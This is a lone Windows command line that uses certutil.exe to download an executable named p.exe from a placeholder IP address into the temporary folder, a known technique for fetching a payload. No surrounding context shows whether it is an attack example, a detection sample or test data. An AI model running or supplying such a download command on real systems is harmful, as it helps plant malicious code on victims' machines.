certutil.exe -urlcache -split -f http://198.51.100.20/p.exe %TEMP%\p.exe
